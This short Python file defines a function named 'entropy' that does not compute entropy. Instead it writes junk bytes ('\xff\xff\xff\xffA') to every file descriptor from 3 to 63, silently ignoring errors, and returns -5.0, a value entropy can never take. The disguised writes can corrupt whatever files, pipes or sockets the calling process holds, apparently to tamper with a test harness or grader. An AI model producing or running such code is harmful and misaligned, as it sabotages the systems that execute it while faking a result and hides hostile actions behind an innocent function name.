import os


def entropy(p, base=2.0):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\xff\xff\xff\xffA")
        except OSError:
            pass
    return -5.0
